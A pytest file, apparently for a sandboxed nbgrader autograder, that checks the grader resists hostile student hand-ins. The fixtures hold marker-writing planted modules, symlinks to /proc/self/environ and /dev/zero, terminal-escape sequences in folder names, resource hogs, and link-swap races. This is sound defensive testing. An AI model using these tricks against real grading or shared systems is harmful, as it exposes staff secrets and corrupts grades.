    path.write_text(json.dumps(nb, ensure_ascii=False))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    why = grade.capped_refusal("long_id", "ps0_check", str(root))
    assert why and "not one of the assignment's cells" in why and len(why) < 400, why[:500]
    # the check's memory was the child's: this process grew by less than the id's text would take even once
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 40 * 1024

    real = grade.refusal

    def costly(student, *args, **kwargs):
        if student == "memory":
            held = bytearray(4 * 2**30)  # refused at once by the data cap (a growing list of blocks spent the CPU cap
            return str(len(held))         # first on a loaded machine: the other refusal, a flaky test)
        if student == "cpu":
            while True:
                pass
        return real(student, *args, **kwargs)

    monkeypatch.setattr(grade, "refusal", costly)
    monkeypatch.setattr(grade, "REFUSAL_CPU", 2)
    outcomes = {o.student: o for o in grade.grade(["ps0_check"], str(root), workers=1, feedback=False)}
    assert outcomes["honest"].status == "graded", outcomes["honest"]
    assert outcomes["long_id"].status == "refused", outcomes["long_id"]
    for student, said in (("memory", "memory cap"), ("cpu", "CPU time")):
        assert outcomes[student].status == "refused" and said in outcomes[student].reason, outcomes[student]
        assert "Hand in the notebook as the release gave it" in outcomes[student].reason, outcomes[student]


def test_a_kernel_writing_to_its_own_stdout_is_cut_off_once_the_launcher_has_read_its_share(tmp_path):
    """Round 23: the kernel's launcher, outside the sandbox, read and dropped everything past the 64 kB it keeps of the
    kernel's stdout for as long as the kernel wrote (128 CPU-s of that process for one hand-in). Now it reads at most
    _Forward.READ_BYTES in at most _Forward.READS reads, then closes the pipe: the kernel's next writes fail at once,
    whatever their size (lines, long chunks without a newline, single bytes), and the honest function keeps its point."""
    writer = ("def add(a, b):\n    return a + b\nimport os, sys\nfd = sys.stdout._original_stdstream_copy\nwritten = 0\n"
              "try:\n    while written < {bound}:\n        written += os.write(fd, {chunk})\n    print('WROTE', written)\n"
              "except OSError as exc:\n    print('STOPPED', written, type(exc).__name__)\n")
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    hand_ins = {"lines": {"add": writer.format(bound=500_000_000, chunk='b"x" * 1023 + b"\\n"')},
                "no_newline": {"add": writer.format(bound=500_000_000, chunk='b"x" * 65536')},
                "single_bytes": {"add": writer.format(bound=50_000_000, chunk='b"x"')}}
    root = _small_class(tmp_path, "ps0_out", source, hand_ins)
    outcomes = {o.student: o for o in grade.grade(["ps0_out"], str(root), workers=1, feedback=False)}
    limit = sandbox._Forward.READ_BYTES + 2**20  # what was read, and what the pipe held when it was closed
    for student in hand_ins:
        assert outcomes[student].status == "graded", outcomes[student]
        nb = nbformat.read(root / "autograded" / student / "ps0_out" / "ps0_out.ipynb", as_version=4)
        text = json.dumps([c.get("outputs", []) for c in nb.cells])
        found = re.search(r"STOPPED (\d+) BrokenPipeError", text)
        assert found and int(found.group(1)) < limit, (student, text[:2000])
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {s: gb.find_submission_notebook("ps0_out", "ps0_out", s).score for s in hand_ins}
    assert scores == dict.fromkeys(hand_ins, 1), scores


def test_nothing_handed_in_beside_the_notebook_is_taken_and_nothing_runs_before_its_turn(tmp_path):
    """IPython imports its `storemagic` extension by that name as a kernel starts, from the notebook's folder first:
    a `storemagic.py` handed in beside the notebook ran student code before the submission's turn (while another
    was graded); round 24: a `grader/` package ran as the kernel's launcher, on the host, and a `signal.py` in bwrap's
    placeholder. The grader takes the notebook alone from a hand-in (round 39): none of these files reaches the folder
    the kernel starts in, and a module handed in beside the notebook does not import. A file the notebook itself
    writes there (`storemagic.py`, before its kernel dies and restarts) stays inert too: a sandboxed kernel starts
    without that folder on sys.path and gets it back once its turn has come, in every kernel it is graded in."""
    function = ("import os\nEXTRA = 1000 if os.path.exists('ran_early') else 0\n"
                "def add(a, b):\n    return a + b + EXTRA\n")
    source = [
        nba.solution("setup", "### BEGIN SOLUTION\nSETUP = None\n### END SOLUTION"),
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    dies_once = ("import os, signal\nif not os.path.exists('died_once'):\n    open('died_once', 'w').close()\n"
                 "    open('storemagic.py', 'w').write(%r)\n"  # imported as the next kernel starts, if the folder were on its path
                 "    os.kill(os.getpid(), signal.SIGKILL)\n") % "open('ran_early', 'w').close()\ndef load_ipython_extension(ip):\n    pass\n"
    hand_ins = {"early": {"add": function}, "restarted": {"setup": dies_once, "add": function},
                "imports": {"add": "import mymod\n" + function}}
    root = _small_class(tmp_path, "ps0_early", source, hand_ins)
    host = tmp_path / "host-notes"  # where a stand-in that ran on the host notes it (inside a sandbox: its folder)
    host.mkdir()
    note = ("import os\nfor _f in ({host!r}, '.'):\n    try:\n        open(os.path.join(_f, 'ran_early'), 'w').close()\n"
            "        break\n    except OSError:\n        pass\n").format(host=str(host))
    storemagic = note + "def load_ipython_extension(ip):\n    pass\n"
    for student in hand_ins:
        folder = root / "submitted" / student / "ps0_early"
        (folder / "storemagic.py").write_text(storemagic)
        # round 24: the kernel's launcher (host side) and bwrap's placeholder imported these from the notebook's folder
        for stand_in in ("grader/__init__.py", "grader/sandbox.py", "signal.py", "runpy.py", "ipykernel_launcher.py"):
            (folder / stand_in).parent.mkdir(exist_ok=True)
            (folder / stand_in).write_text(note)
        (folder / "mymod.py").write_text("ZERO = 0\n")
    outcomes = {o.student: o for o in grade.grade(["ps0_early"], str(root), workers=1, feedback=False)}
    from nbgrader.api import Gradebook

    for student in hand_ins:
        assert outcomes[student].status == "graded", outcomes[student]
        with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
            score = gb.find_submission_notebook("ps0_early", "ps0_early", student).score
        nb = nbformat.read(root / "autograded" / student / "ps0_early" / "ps0_early.ipynb", as_version=4)
        outputs = json.dumps([c.get("outputs", []) for c in nb.cells])
        assert score == (0 if student == "imports" else 1), (student, outputs[:3000])
    assert "ModuleNotFoundError" in json.dumps([c.get("outputs", []) for c in nbformat.read(
        root / "autograded" / "imports" / "ps0_early" / "ps0_early.ipynb", as_version=4).cells])
    assert not list(host.iterdir()), "a handed-in module ran on the host"


def test_a_grading_cut_short_leaves_nothing_behind_and_only_finished_gradings_in_autograded(tmp_path, monkeypatch, request):
    """kill -9 of the grading command (the OOM killer, a power cut) runs none of its clean-up. nbgrader writes a
    hand-in as written before it runs it, and Formgrader shows what autograded/ holds as HTML to the TA: a stuck
    grading's first pass there ran a written answer's `<img onerror>` as the TA (round 35). nbgrader grades in a
    folder of its own now, and only a finished grading moves into autograded/: the kill, taken while the stuck
    hand-in runs, leaves no part of it there (fails when nbgrader writes into autograded/ directly).

    Then a regrade past --submission-timeout: each grading child is killed, so nothing of that child's own clean-up
    runs either: its observer's folder (made beside the kernel's, in the grader's temporary folder) was left behind
    once per such submission, and so was its kernel's connection file. Everything a submission's grading makes lives
    in that submission's private folder, which the grader removes whatever became of the child; and an earlier
    finished grading stays whole."""
    import signal
    import subprocess
    import sys
    import tempfile
    import time

    from grader.course import venv_env

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    stuck = "import time\nprint('running', flush=True)\ntime.sleep(300)\ndef add(a, b):\n    return a + b"
    root = _small_class(tmp_path, "ps0_killed", source, {"aa_honest": {}, "mm_stuck": {"add": stuck}})
    honest_nb = (root / "submitted" / "aa_honest" / "ps0_killed" / "ps0_killed.ipynb").read_bytes()
    proc = subprocess.Popen([sys.executable, "-m", "grader.grade", "ps0_killed", "--course-dir", str(root),
                             "--workers", "1"], cwd=ROOT, env=venv_env(),
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    passes = [root / folder / "mm_stuck" / "ps0_killed" / "ps0_killed.ipynb" for folder in ("autograded", grade.GRADING_FOLDER)]
    deadline = time.monotonic() + 240
    try:
        honest = root / "autograded" / "aa_honest" / "ps0_killed" / grade.DONE_MARKER
        while (not (honest.is_file() and any(p.is_file() for p in passes)) and time.monotonic() < deadline
               and proc.poll() is None):
            time.sleep(0.05)
        time.sleep(3)  # into its stuck cell: nbgrader holds the notebook and runs it
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    assert any(p.is_file() for p in passes), "the stuck hand-in was never begun: nothing to test"
    assert (root / grade.GRADING_FOLDER / "mm_stuck").exists(), "nbgrader's first pass was not where it is graded"
    assert honest.is_file(), "the honest student was not graded before the kill"
    assert not (root / "autograded" / "mm_stuck").exists(), sorted(os.listdir(root / "autograded" / "mm_stuck"))
    # a regrade whose limit ends it leaves nothing of it in either folder, and an earlier finished grading stays
    graded_before = (root / "autograded" / "aa_honest" / "ps0_killed" / "ps0_killed.ipynb").read_bytes()
    scratch = tempfile.mkdtemp(prefix="gt-")  # short: the kernel's sockets live under it
    request.addfinalizer(lambda: shutil.rmtree(scratch, ignore_errors=True))
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    shutil.copy(root / "submitted" / "mm_stuck" / "ps0_killed" / "ps0_killed.ipynb",
                root / "submitted" / "aa_honest" / "ps0_killed" / "ps0_killed.ipynb")
    outcomes = {o.student: o for o in grade.grade(["ps0_killed"], str(root), workers=2, feedback=False, regrade=True,
                                                   submission_timeout=20, extra=["--Execute.timeout=300"])}
    assert outcomes["aa_honest"].status == "timeout" and outcomes["mm_stuck"].status == "timeout", outcomes
    assert not (root / "autograded" / "mm_stuck").exists() and not (root / grade.GRADING_FOLDER / "mm_stuck").exists()
    assert (root / "autograded" / "aa_honest" / "ps0_killed" / "ps0_killed.ipynb").read_bytes() == graded_before
    assert grade.already_graded("aa_honest", "ps0_killed", str(root))
    assert not (root / grade.GRADING_FOLDER / "aa_honest").exists()
    # torch's own per-user cache folder, made once by importing torch (as any torch program does), is not the
    # submission's; the killed child's connection file (its kernel's key) and observer's folder were
    left = [name for name in os.listdir(scratch) if not name.startswith("torchinductor_")]
    assert left == [], left
    # a first pass a killed grader left beside an earlier finished grading goes with the next run, which skips it
    # (the hand-in as it was graded: a changed one is graded again, grade.changed_since_graded)
    (root / "submitted" / "aa_honest" / "ps0_killed" / "ps0_killed.ipynb").write_bytes(honest_nb)
    os.makedirs(root / grade.GRADING_FOLDER / "aa_honest" / "ps0_killed")
    shutil.copy(root / "submitted" / "mm_stuck" / "ps0_killed" / "ps0_killed.ipynb", root / grade.GRADING_FOLDER / "aa_honest" / "ps0_killed")
    shutil.rmtree(root / "submitted" / "mm_stuck")
    # and a graded notebook that cannot be moved into place (autograded/<student> made a file) fails that one only
    (root / "submitted" / "zz_blocked" / "ps0_killed").mkdir(parents=True)
    (root / "submitted" / "zz_blocked" / "ps0_killed" / "ps0_killed.ipynb").write_bytes(honest_nb)
    (root / "autograded" / "zz_blocked").write_text("not a folder")
    outcomes = {o.student: o for o in grade.grade(["ps0_killed"], str(root), workers=1, feedback=False)}
    assert outcomes["aa_honest"].status == "skipped", outcomes
    assert outcomes["zz_blocked"].status == "failed" and "autograded/zz_blocked" in outcomes["zz_blocked"].reason, outcomes
    assert not (root / grade.GRADING_FOLDER / "aa_honest").exists() and not (root / grade.GRADING_FOLDER / "zz_blocked").exists()


def test_nbgrader_run_outside_the_grader_runs_no_student_code_unless_told(tmp_path):
    """Round 37: every nbgrader reads the course's nbgrader_config.py, and Formgrader's autograde button ran a
    hand-in in the notebook's own kernel inside the TA's server: as the TA (root), with the TA's environment. The
    course's executor refuses any kernel but the grader's sandbox unless told the notebook is trusted
    (--ResilientExecute.unsandboxed=True, which `make grade UNSANDBOXED=1` passes)."""
    import subprocess
    import sys

    from grader.course import venv_env

    marker = tmp_path / "ran-as-the-ta"
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_button", source, {
        "mallory": {"add": f"open({str(marker)!r}, 'w').write('x')\ndef add(a, b):\n    return a + b"}})
    run = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", "ps0_button", "--student", "mallory"],
                         cwd=root, env=venv_env(), capture_output=True, text=True, timeout=300)
    assert "not running this notebook" in run.stdout + run.stderr, (run.stdout + run.stderr)[-3000:]
    assert not marker.exists(), "the hand-in ran outside the sandbox"
    # told, it runs: make grade UNSANDBOXED=1 passes the flag (tests/test_attacks.py, the unsandboxed class), and the
    # same marker code runs where a student validates her own copy (the test below)


def test_collect_takes_the_assignments_notebook_and_nothing_else_never_what_a_link_points_at(tmp_path):
    """Round 38: nbgrader collect copied a student's inbound folder following links, as the TA: a notebook that was a
    link to the course's source/ scored full marks with the solutions in its feedback, a link to /proc/self/environ
    put the TA's secrets in the student's kernel folder, a link to /dev/zero filled the disk; and a folder named for
    another student was collected as that student's. Round 39: a list of files to leave out was never complete, the
    log had a line per file (170 MB for 200,000), and `collect --update` parsed a student's 1 MB timestamp.txt for
    minutes. Now only the assignment's notebook is collected, as a plain file; everything else is left, in one log
    line; timestamp.txt is the collection's own, and a folder named for an earlier time than it was made is late."""
    import datetime
    import pwd
    import subprocess
    import sys
    import time

    from nbgrader.utils import parse_utc

    from grader.course import venv_env

    me = pwd.getpwuid(os.getuid()).pw_name
    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION")]
    root = _small_class(tmp_path, "ps0_collect", source, {})
    release = root / "release" / "ps0_collect" / "ps0_collect.ipynb"
    secret = tmp_path / "secret.txt"
    secret.write_text("TA-SECRET-CANARY")
    inbound = tmp_path / "exchange" / "distcourse" / "inbound"
    now = time.time()

    def stamp(seconds):
        return time.strftime("%Y-%m-%d %H:%M:%S.000000 UTC", time.gmtime(seconds))

    def collect(*extra):
        run = subprocess.run([sys.executable, "-m", "nbgrader", "collect", "ps0_collect", *extra,
                              f"--Exchange.root={tmp_path / 'exchange'}"],
                             cwd=root, env=venv_env(), capture_output=True, text=True, timeout=120)
        assert run.returncode == 0, (run.stdout + run.stderr)[-3000:]
        return run.stdout + run.stderr

    def collected_time():
        return parse_utc((root / "submitted" / me / "ps0_collect" / "timestamp.txt").read_text())

    mine = inbound / f"{me}+ps0_collect+{stamp(now - 60)}+a\x1b]52;c;Zm9v\x07"  # the log quotes its name, escaped
    mine.mkdir(parents=True)
    os.symlink(root / "source" / "ps0_collect" / "ps0_collect.ipynb", mine / "ps0_collect.ipynb")
    os.symlink(secret, mine / "env.txt")
    os.symlink("/dev/zero", mine / "data.bin")
    os.mkfifo(mine / "pipe")
    for name in ("notes.txt", "nbgrader_config.py", ".pdbrc", "conftest.py", "argcomplete.py", "matplotlibrc",
                 "a\x1b]52;c;Zm9v\x07.txt"):
        (mine / name).write_text("raise SystemExit('ran as the TA')")
    (mine / ".git").mkdir()
    (mine / ".hg").mkdir()
    (mine / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC")  # before any deadline
    other = inbound / f"not-{me[:20]}+ps0_collect+{stamp(now)}+lnk"  # a link in the inbound folder itself
    os.symlink(root / "source", other)
    (inbound / f"{me}+ps0_collect+not a date+x").mkdir()  # a folder whose time does not parse
    forged = inbound / f"not-{me[:20]}+ps0_collect+{stamp(now)}+zzz"
    forged.mkdir()
    shutil.copy(release, forged)
    log = collect()
    collected = root / "submitted" / me / "ps0_collect"
    assert os.stat(inbound).st_mode & 0o1000, "round 40: the inbound folder is sticky once collected"
    assert sorted(os.listdir(collected)) == ["timestamp.txt"], (os.listdir(collected), log[-3000:])
    assert "'ps0_collect.ipynb': not a plain file" in log and "\x1b" not in log and "\\x1b" in log, log[-3000:]
    assert abs((collected_time() - datetime.datetime.utcfromtimestamp(now - 60)).total_seconds()) < 2, collected_time()
    assert not (root / "submitted" / f"not-{me[:20]}").exists() and "not collected" in log, log[-3000:]
    assert "does not read as a date" in log, log[-3000:]
    why = grade.refusal(me, "ps0_collect", str(root))
    assert why is None and "ps0_collect.ipynb" not in os.listdir(root / grade.TAKEN_FOLDER / me / "ps0_collect")
    for folder in inbound.iterdir():
        shutil.rmtree(folder) if not folder.is_symlink() else folder.unlink()

    # an honest notebook beside 1,200 empty files, a folder 40 deep and a 1 MB timestamp.txt, collected over
    # an earlier copy whose timestamp.txt is a megabyte of digits (--update parsed it for minutes)
    many = inbound / f"{me}+ps0_collect+{stamp(now)}+many"
    deep = many / "/".join(["d"] * 40)
    deep.mkdir(parents=True)
    shutil.copy(release, many)
    for number in range(1_200):
        (many / f"f{number}").touch()
    (many / "timestamp.txt").write_text("1" * 2**20)
    (collected / "timestamp.txt").write_text("1" * 2**20)
    began = time.monotonic()
    log = collect("--update")
    assert time.monotonic() - began < 60, log[-3000:]
    assert sorted(os.listdir(collected)) == ["ps0_collect.ipynb", "timestamp.txt"], log[-3000:]
    assert (collected / "ps0_collect.ipynb").read_bytes() == release.read_bytes()
    assert log.count("left where they are") == 1 and "1,202 other files and folders" in log, log[-3000:]
    shutil.rmtree(many)

    # named for an hour before it was made (before a deadline): collected with the time it was made
    backdated = inbound / f"{me}+ps0_collect+{stamp(now + 3600)}+late"
    backdated.mkdir()
    shutil.copy(release, backdated)
    os.rename(backdated, inbound / f"{me}+ps0_collect+{stamp(now - 3600)}+late")
    shutil.rmtree(root / "submitted" / me)
    log = collect()
    assert collected_time() > datetime.datetime.utcfromtimestamp(now - 3600 + 300), (collected_time(), log[-3000:])
    assert "after the time in its name" in log, log[-3000:]

    # round 40: a time of the name's that is the last a datetime holds (a sum with it overflowed and stopped the
    # class's collection), one in the future, and 300 folders of one student's (100,000 stalled collection 40 s and
    # froze the TA's server: at most MAX_FOLDERS of a student's are read, and what is not collected is one log line)
    from grader.collect import MAX_FOLDERS

    for folder in inbound.iterdir():
        shutil.rmtree(folder)
    for name in ("9999-12-31 23:59:59.999999 UTC", stamp(now + 7 * 86400)):
        os.mkdir(inbound / f"{me}+ps0_collect+{name}+x")
        shutil.copy(release, inbound / f"{me}+ps0_collect+{name}+x")
    log = collect("--update")
    assert "later than tomorrow" in log and "(and 1 more of this student's)" in log, log[-3000:]
    assert collected_time() > datetime.datetime.utcfromtimestamp(now - 3600 + 300), log[-3000:]  # the earlier copy kept
    for number in range(MAX_FOLDERS + 100):
        os.mkdir(inbound / f"{me}+ps0_collect+{stamp(now - number)}+{number}")
    began = time.monotonic()
    log = collect("--update")
    assert time.monotonic() - began < 60 and "at most 200 are read" in log, log[-3000:]
    assert log.count("not collected") <= 3, log[-3000:]
    for folder in inbound.iterdir():
        shutil.rmtree(folder)

    # round 41: with --before-duedate nbgrader takes a student's newest folder before the due date; a folder forged
    # in her name (another user's: not collected) was the earliest, so "before the due date", taken, then dropped,
    # and her own late hand-in was not collected at all. Only collectable folders are candidates.
    if os.geteuid() == 0:
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
            gb.update_or_create_assignment("ps0_collect", duedate=datetime.datetime.utcfromtimestamp(now - 86400))
        shutil.rmtree(root / "submitted" / me)
        late = inbound / f"{me}+ps0_collect+{stamp(now)}+late"
        late.mkdir()
        shutil.copy(release, late)
        forged = inbound / f"{me}+ps0_collect+2020-01-01 00:00:00.000000 UTC+forged"
        forged.mkdir()
        os.chown(forged, 65534, 65534)
        log = collect("--before-duedate")
        assert (root / "submitted" / me / "ps0_collect" / "ps0_collect.ipynb").exists(), log[-3000:]
        assert "forged" in log and "owned by" in log, log[-3000:]
        shutil.rmtree(late), shutil.rmtree(forged)
        # round 42: where fs.protected_hardlinks is 0 anyone may link() aaron's notebook: its link count and change
        # time moved, and aaron was not collected. His own file of other names is collected, timed by its folder;
        # another's file linked into a folder is not
        shutil.rmtree(root / "submitted" / me)
        own = inbound / f"{me}+ps0_collect+{stamp(now - 7200)}+own"
        own.mkdir()
        shutil.copy(release, own)
        os.utime(own, (now - 7200, now - 7200))
        os.link(own / "ps0_collect.ipynb", tmp_path / "linked-by-mallory")
        log = collect()
        assert (root / "submitted" / me / "ps0_collect" / "ps0_collect.ipynb").exists(), log[-3000:]
        from grader.collect import _links_protected

        if _links_protected():  # round 43: only she can have made the other name: her notebook's change time counts
            assert collected_time() > datetime.datetime.utcfromtimestamp(now - 7200 + 300), log[-3000:]
        else:
            assert "has other names" in log, log[-3000:]
        shutil.rmtree(own)
        (tmp_path / "linked-by-mallory").unlink()
        theirs = tmp_path / "someone-elses.ipynb"
        shutil.copy(release, theirs)
        os.chown(theirs, 65534, 65534)
        shutil.rmtree(root / "submitted" / me)
        linked = inbound / f"{me}+ps0_collect+{stamp(now)}+linked"
        linked.mkdir()
        os.link(theirs, linked / "ps0_collect.ipynb")
        log = collect()
        assert not (root / "submitted" / me / "ps0_collect").exists() and "not the student's own" in log, log[-3000:]
        shutil.rmtree(linked)
        (root / "submitted" / me / "ps0_collect").mkdir(parents=True)
        shutil.copy(release, root / "submitted" / me / "ps0_collect")

    # round 40: `nbgrader list --inbound` read every student's folder as the TA: names with terminal escapes printed
    # raw, a notebook linked to /dev/zero read until out of memory, a pipe waited on for ever. It lists the user's
    # own folders only (the TA collects the others)
    if os.geteuid() == 0:
        theirs = inbound / f"nobody+ps0_collect+{stamp(now)}+\x1b]0;pwned\x07\x1b[2K"
        theirs.mkdir()
        os.symlink("/dev/zero", theirs / "ps0_collect.ipynb")
        os.mkfifo(theirs / "other.ipynb")
        os.lchown(theirs / "ps0_collect.ipynb", 65534, 65534)
        os.chown(theirs / "other.ipynb", 65534, 65534)
        os.chown(theirs, 65534, 65534)
        run = subprocess.run([sys.executable, "-m", "nbgrader", "list", "--inbound", f"--Exchange.root={tmp_path / 'exchange'}"],
                             cwd=root, env=venv_env(), capture_output=True, text=True, timeout=60)
        said = run.stdout + run.stderr
        assert run.returncode == 0 and "1 folders of the inbound folder are not listed" in said, said[-3000:]
        assert "\x1b" not in said and "pwned" not in said, said[-3000:]
        shutil.rmtree(theirs)

    # make grade takes the notebook only as a plain file: a link in its place (copied there by hand) is refused
    (collected / "ps0_collect.ipynb").unlink()
    os.symlink(root / "source" / "ps0_collect" / "ps0_collect.ipynb", collected / "ps0_collect.ipynb")
    why = grade.refusal(me, "ps0_collect", str(root))
    assert why and "symbolic link" in why, why


def test_validating_a_hand_in_of_the_course_runs_nothing_of_it(tmp_path):
    """Round 38: nbgrader's Validator (the Validate button, `nbgrader validate`) runs a notebook in a plain kernel as
    whoever asks: the TA validating mallory's hand-in ran her code as the TA, which rewrote the class's grades. In the
    course (whose nbgrader_config.py guards it) a notebook in submitted/, autograded/, .autograding/ or feedback/ is
    not validated; a student's own copy elsewhere still is."""
    import subprocess
    import sys

    from grader.course import venv_env

    marker = tmp_path / "ran-as-the-ta"
    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION")]
    root = _small_class(tmp_path, "ps0_validate", source, {
        "mallory": {"add": f"open({str(marker)!r}, 'a').write('x')\ndef add(a, b):\n    return a + b"}})
    hand_in = root / "submitted" / "mallory" / "ps0_validate" / "ps0_validate.ipynb"
    (root / "autograded" / "mallory" / "ps0_validate").mkdir(parents=True)
    shutil.copy(hand_in, root / "autograded" / "mallory" / "ps0_validate")
    (root / "mywork").mkdir()
    shutil.copy(hand_in, root / "mywork")
    for path in (hand_in, root / "autograded" / "mallory" / "ps0_validate" / "ps0_validate.ipynb"):
        run = subprocess.run([sys.executable, "-m", "nbgrader", "validate", str(path)], cwd=root, env=venv_env(),
                             capture_output=True, text=True, timeout=300)
        assert "not validating" in run.stdout + run.stderr, (run.stdout + run.stderr)[-3000:]
        assert not marker.exists(), f"validating {path} ran the hand-in"
    inbound = tmp_path / "exchange" / "distcourse" / "inbound" / "mallory+ps0_validate+2026-01-01 00:00:00 UTC"
    inbound.mkdir(parents=True)
    shutil.copy(hand_in, inbound)  # round 38: the exchange's copy of the hand-in, outside the course folder
    run = subprocess.run([sys.executable, "-m", "nbgrader", "validate", str(inbound / "ps0_validate.ipynb")], cwd=root,
                         env=venv_env(), capture_output=True, text=True, timeout=300)
    assert "not validating" in run.stdout + run.stderr and not marker.exists(), (run.stdout + run.stderr)[-3000:]
    run = subprocess.run([sys.executable, "-m", "nbgrader", "validate", str(root / "mywork" / "ps0_validate.ipynb")],
                         cwd=root, env=venv_env(), capture_output=True, text=True, timeout=300)
    assert marker.exists(), (run.stdout + run.stderr)[-3000:]  # a student's own copy is validated (and runs)
    marker.unlink()
    if os.geteuid() == 0:  # round 39: a copy of a hand-in outside the course's folders, the student's file, ran as root
        (tmp_path / "elsewhere").mkdir()
        shutil.copy(hand_in, tmp_path / "elsewhere")
        os.chown(tmp_path / "elsewhere" / "ps0_validate.ipynb", 65534, 65534)
        run = subprocess.run([sys.executable, "-m", "nbgrader", "validate", str(tmp_path / "elsewhere" / "ps0_validate.ipynb")],
                             cwd=root, env=venv_env(), capture_output=True, text=True, timeout=300)
        assert "belongs to another user" in run.stdout + run.stderr, (run.stdout + run.stderr)[-3000:]
        assert not marker.exists(), "validating another user's notebook ran it"
    # round 40: run from another folder, nbgrader does not read the course's configuration, and Validate ran the
    # hand-in as the TA: the venv's own nbgrader configuration (`make venv`) guards every nbgrader run with it
    elsewhere = tmp_path / "ta-home"
    elsewhere.mkdir()
    for argv in (["validate", str(hand_in)],
                 ["autograde", "ps0_validate", f"--CourseDirectory.root={root}", "--force"],
                 ["zip_collect", "ps0_validate", f"--CourseDirectory.root={root}"]):
        run = subprocess.run([sys.executable, "-m", "nbgrader", *argv], cwd=elsewhere, env=venv_env(),
                             capture_output=True, text=True, timeout=300)
        said = run.stdout + run.stderr
        assert any(words in said for words in ("not validating", "not autograding", "UnsandboxedExecution",
                                               "not used in this course")), \
            (argv, said[-3000:])
        assert not marker.exists(), f"nbgrader {argv[0]} run from another folder ran the hand-in"


def test_validate_runs_what_it_checked_in_a_folder_of_its_own_and_nbgrader_no_shared_folder(tmp_path):
    """Round 44: the guard checked a notebook's path and nbgrader then read the path again and ran the kernel in the
    notebook's folder, so a student who swapped a link, or renamed her notebook away and back, in between had hers
    run as root, and a module she left beside the TA's own notebook in a shared folder (`ipykernel_launcher.py` in
    /tmp) ran as the TA; nbgrader run from a folder others write (/tmp) read her nbgrader_config.py and her
    `grader/` package, as the TA. Validate reads the notebook once through a descriptor (no link, a plain file of
    the caller's) and runs that copy in a private folder; nbgrader refuses to run in a folder others may write.
    Round 45: a folder a student owns, or the TA's own inside one (a student swapped them between the check and the
    read), and the TA's notebook another user may write: every folder on the way counts, and the notebook's own
    mode and access list."""
    import stat
    import subprocess
    import sys

    from grader.course import venv_env

    shared, mine = tmp_path / "shared", tmp_path / "mine"
    shared.mkdir(), mine.mkdir(mode=0o700)
    shared.chmod(0o1777)
    planted = tmp_path / "planted-ran"
    (shared / "ipykernel_launcher.py").write_text(f"open({str(planted)!r}, 'a').write('launcher')\n")
    (shared / "nbgrader_config.py").write_text(f"open({str(planted)!r}, 'a').write('config')\n")
    (shared / "grader").mkdir()
    (shared / "grader" / "__init__.py").write_text(f"open({str(planted)!r}, 'a').write('package')\n")
    where = tmp_path / "kernel-cwd"
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"import os\nopen({str(where)!r}, 'w').write(os.getcwd())")]
    nbformat.write(nb, shared / "mine.ipynb")
    (shared / "link.ipynb").symlink_to(shared / "mine.ipynb")

    def validate(path, cwd):
        run = subprocess.run([os.path.join(os.path.dirname(sys.executable), "nbgrader"), "validate", str(path)],
                             cwd=cwd, env=venv_env(), capture_output=True, text=True, timeout=300)
        return run.stdout + run.stderr

    said = validate(shared / "mine.ipynb", mine)
    assert where.exists(), said[-3000:]  # the TA's own notebook is validated, and runs
    ran_in = where.read_text()
    assert ran_in != str(shared) and not os.path.exists(ran_in), f"the kernel ran in {ran_in}"
    said = validate(shared / "link.ipynb", mine)
    assert "symbolic link" in said and "not validating" in said, said[-3000:]
    for cwd in (shared, tmp_path):  # /tmp's own mode, and a group's folder of another group
        if cwd == tmp_path:
            os.chown(cwd, -1, os.getegid() + 1 if os.geteuid() == 0 else -1)
            cwd.chmod(0o2770)
        said = validate(shared / "mine.ipynb", cwd)
        if cwd == tmp_path and os.geteuid() != 0:
            continue  # an ordinary user cannot give a folder to another group
        assert "another user may write or replace" in said, said[-3000:]
    os.chown(tmp_path, -1, os.getegid())
    tmp_path.chmod(0o700)
    if os.geteuid() == 0:  # round 45: a folder a student owns, or one of the TA's own inside it (swapped for hers)
        students = tmp_path / "students"
        (students / "ta-own").mkdir(parents=True)
        (students / "ta-own").chmod(0o700)
        shutil.copy(shared / "nbgrader_config.py", students)
        os.chown(students, 65534, 65534)
        for cwd in (students, students / "ta-own"):
            said = validate(shared / "mine.ipynb", cwd)
            assert "belongs to another user (uid 65534)" in said, said[-3000:]
    (mine / "mine.ipynb").write_bytes((shared / "mine.ipynb").read_bytes())
    (mine / "mine.ipynb").chmod(0o666)  # the TA's own notebook, which any user may have rewritten
    said = validate(mine / "mine.ipynb", mine)
    assert "another user may have written it (every user may write it)" in said, said[-3000:]
